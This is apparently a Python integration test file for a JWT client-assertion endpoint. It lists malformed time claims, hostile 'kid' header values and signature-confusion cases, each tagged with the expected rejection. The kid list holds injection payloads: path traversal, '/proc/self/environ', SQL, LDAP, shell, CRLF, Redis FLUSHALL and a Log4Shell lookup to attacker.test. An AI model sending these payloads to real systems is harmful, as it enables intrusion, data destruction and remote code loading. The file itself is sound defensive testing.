"""Attacks with times and keys: dates that are not dates, and key names that point elsewhere."""

import time
from typing import Any

from keyturn_shared.jose import strict_json
from keyturn_shared.jose.signing import SigningKey
from tests.integration.attacks import EndpointAttack
from tests.testkit.attacked_node import (
    KEY,
    OTHER_KEY,
    REVOKED_KEY,
    RSA_KEY,
    SECRET,
    Scene,
    sign_raw,
    signed,
)
from tests.testkit.nodes import assertion_claims
from tests.testkit.secret_signing import sign_with_secret

_DATE = "RFC 7519 2: a NumericDate is a JSON number"
_RANGE = "CWE-190; RFC 7493 2.2: dates that do not fit"


def _timed(name: str, source: str, expected: str, **offsets: float) -> EndpointAttack:
    """``offsets``: seconds from the moment of sending."""
    return _timed_in("acme", name, source, expected, **offsets)


def _timed_in(realm: str, name: str, source: str, expected: str, **offsets: float) -> EndpointAttack:
    async def send(scene: Scene) -> Any:
        now = time.time()
        dates: dict[str, Any] = {claim: now + offset for claim, offset in offsets.items()}
        return await scene.assert_as(signed(realm=realm, **dates), realm=realm)

    return EndpointAttack(name, source, expected, send)


def _written(name: str, source: str, text: str, claim: str = "exp") -> EndpointAttack:
    """Write the claim as this exact JSON text."""

    async def send(scene: Scene) -> Any:
        claims = assertion_claims("worker", "acme", **{claim: "IT"})
        payload = strict_json.encode(claims).replace(b'"IT"', text.encode())
        return await scene.assert_as(sign_raw(KEY, payload))

    return EndpointAttack(name, source, "malformed", send)


TIMES = [
    _timed("expired", "RFC 7519 4.1.4", "expired", iat=-120, exp=-60),
    _timed("expired just past the skew", "RFC 7519 4.1.4", "expired", iat=-60, exp=-15.5),
    _timed("issued in a minute", "RFC 7519 4.1.6", "not_yet_valid", iat=60, exp=90),
    _timed("not before a minute", "RFC 7519 4.1.5", "not_yet_valid", nbf=60),
    _timed("good for an hour, too old", "Keycloak 38576; RFC 7523 5", "lifetime_too_long", iat=-62, exp=3538),
    _timed_in(
        "strict", "good for an hour, in a strict realm", "RFC 7523 5", "lifetime_too_long", iat=0, exp=3600
    ),
    _timed("issued yesterday for two days", "Keycloak 38576", "lifetime_too_long", iat=-86_400, exp=86_400),
    _timed("good for a year, a day old", "Keycloak 38576", "lifetime_too_long", iat=-86_400, exp=31_536_000),
    _written("exp NaN", "RFC 8259 6", "NaN"),
    _written("exp Infinity", "RFC 8259 6", "Infinity"),
    _written("exp minus Infinity", "RFC 8259 6", "-Infinity"),
    _written("exp 1e999", "RFC 8259 6: no double holds it", "1e999"),
    _written("exp 1e308", _RANGE, "1e308"),
    _written("exp of 65 bits", _RANGE, str(2**64)),
    _written("exp of 4,000 digits", f"{_RANGE}; CVE-2020-10735", "9" * 4000),
    _written("exp 2^53 + 1", _RANGE, str(2**53 + 1)),
    _written("exp in milliseconds", _DATE, "1795000000000"),
    _written("exp minus one", _DATE, "-1"),
    _written("exp a string", _DATE, '"1795000000"'),
    _written("exp NaN in a string", _DATE, '"NaN"'),
    _written("exp true", _DATE, "true"),
    _written("exp null", _DATE, "null"),
    _written("exp an array", _DATE, "[1795000000]"),
    _written("exp in hexadecimal", "RFC 8259 6", "0x6afd3b40"),
    _written("iat NaN", "RFC 8259 6", "NaN", "iat"),
    _written("iat 1e400", "RFC 8259 6: no double holds it", "1e400", "iat"),
    _written("iat minus 1e308", _RANGE, "-1e308", "iat"),
    _written("nbf of 2,000 digits", f"{_RANGE}; CVE-2020-10735", "-" + "9" * 2000, "nbf"),
    _written("exp twice", "RFC 7519 4", '1795000000,"exp":99999999999'),
]


def _kid(name: str, source: str, kid: object, expected: str = "unknown_kid") -> EndpointAttack:
    return _keyed(name, source, expected, KEY, kid=kid)


def _keyed(name: str, source: str, expected: str, key: SigningKey, **header: object) -> EndpointAttack:
    async def send(scene: Scene) -> Any:
        return await scene.assert_as(signed(key, header=header))

    return EndpointAttack(name, source, expected, send)


KIDS = [
    _kid("kid a path", "CVE-2021-41106; RFC 8725 3.10", "../../../../dev/null"),
    _kid("kid a device", "RFC 8725 3.10", "/proc/self/environ"),
    _kid("kid a URL", "RFC 8725 2.9", "https://attacker.test/jwks"),
    _kid("kid in SQL", "RFC 8725 2.9", "x' UNION SELECT 'key' --"),
    _kid("kid in LDAP", "RFC 8725 2.9", "*)(uid=*))(|(uid=*"),
    _kid("kid in a shell", "RFC 8725 3.10", "$(sleep 5)"),
    _kid("kid in a template", "RFC 8725 3.10", "{{config}}"),
    _kid("kid in a log line", "CWE-117", 'worker-1\n{"level":"info"}'),
    _kid("kid in a header", "CWE-113", "worker-1\r\nSet-Cookie: a=b"),
    _kid("kid for a logger", "CVE-2021-44228", "${jndi:ldap://attacker.test/a}"),
    _kid("kid in Redis protocol", "CWE-77", "\r\n*1\r\n$8\r\nFLUSHALL\r\n"),
    _kid("kid in another case", "RFC 7515 4.1.4", "WORKER-1"),
    _kid("kid with a NUL", "RFC 7515 4.1.4", "worker-1\0"),
    _kid("kid empty", "RFC 7515 4.1.4", ""),
    _kid("kid __proto__", "RFC 8725 3.10", "__proto__"),
    _kid("kid of the realm's key", "RFC 8725 3.8", "realm-1"),
    _kid("kid of a neighbour's key", "RFC 8725 3.8", OTHER_KEY.kid),
    _kid("kid a number", "RFC 7515 4.1.4", 1, "malformed"),
    _kid("kid an array", "RFC 7515 4.1.4", ["worker-1"], "malformed"),
    _kid("kid of 513 characters", "RFC 8725 2.9", "k" * 513, "malformed"),
    _kid("another key of the client under this kid", "RFC 7515 5.2", "worker-2", "bad_signature"),
    _keyed("a revoked key", "RFC 7638: by thumbprint", "key_revoked", REVOKED_KEY),
    _keyed("a revoked key without its kid", "RFC 7638: by thumbprint", "key_revoked", REVOKED_KEY, kid=None),
    _keyed("a revoked key under a good kid", "RFC 7515 5.2", "bad_signature", REVOKED_KEY, kid=KEY.kid),
    _keyed(
        "a jwk in the header",
        "CVE-2018-0114",
        "bad_signature",
        OTHER_KEY,
        kid=KEY.kid,
        jwk=OTHER_KEY.public_jwk,
    ),
    _keyed("an unknown extension", "RFC 7515 4.1.11", "malformed", KEY, crit=["exp"]),
    _keyed("an unencoded payload", "RFC 7797 6", "malformed", KEY, b64=False, crit=["b64"]),
    _keyed("a compressed payload", "RFC 8725 3.6", "malformed", KEY, zip="DEF"),
    _keyed("alg none with a signature", "RFC 8725 3.2", "algorithm_not_allowed", KEY, alg="none"),
    _keyed("alg NONE with a signature", "RFC 8725 3.2", "algorithm_not_allowed", KEY, alg="NONE"),
    _keyed("RS256 said, ES256 signed", "RFC 8725 3.1: a key by kid and alg", "unknown_kid", KEY, alg="RS256"),
    _keyed(
        "PS256 said, RS256 signed", "RFC 8725 3.1: a key by kid and alg", "unknown_kid", RSA_KEY, alg="PS256"
    ),
]


def _mac(
    name: str, source: str, expected: str, client_id: str, secret: str, alg: str = "HS256"
) -> EndpointAttack:
    async def send(scene: Scene) -> Any:
        claims = assertion_claims(client_id, "acme")
        return await scene.assert_as(sign_with_secret(secret, alg, claims))

    return EndpointAttack(name, source, expected, send)


MACS = [
    _mac("a MAC of the public JWK", "CVE-2015-9235", "algorithm_not_allowed", "worker", str(KEY.public_jwk)),
    _mac("a MAC by a client with keys", "RFC 8725 2.1", "algorithm_not_allowed", "worker", SECRET),
    _mac(
        "a MAC by a client with a plain secret", "RFC 7591 2", "authenticator_mismatch", "by-secret", SECRET
    ),
    _mac("a MAC of another secret", "RFC 7515 5.2", "bad_signature", "by-mac", "wrong " * 8),
    _mac("a MAC of the secret in upper case", "RFC 7515 5.2", "bad_signature", "by-mac", SECRET.upper()),
    _mac(
        "HS256 by a client registered for HS512",
        "RFC 8725 3.1",
        "algorithm_not_allowed",
        "by-mac-hs512",
        SECRET * 2,
    ),
]

ATTACKS = [*TIMES, *KIDS, *MACS]
